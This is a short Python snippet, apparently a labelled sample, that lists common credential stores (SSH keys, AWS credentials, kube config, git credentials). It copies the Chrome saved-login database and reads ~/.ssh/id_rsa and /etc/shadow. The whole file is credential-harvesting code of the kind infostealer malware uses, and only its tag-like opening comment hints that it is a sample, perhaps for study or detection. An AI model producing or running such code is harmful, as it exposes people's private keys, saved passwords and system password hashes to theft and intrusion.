# private-store, names-private-store, names-key-file, key-file, many-kinds, account-file: a list of stores is gone through
import os
import shutil

HOME = os.path.expanduser("~")
PLACES = [".ssh/id_rsa", ".aws/credentials", ".kube/config", ".git-credentials"]
shutil.copy(HOME + "/AppData/Local/Google/Chrome/User Data/Default/Login Data", "copy.db")
open(HOME + "/.ssh/id_rsa").read()
open("/etc/shadow").read()
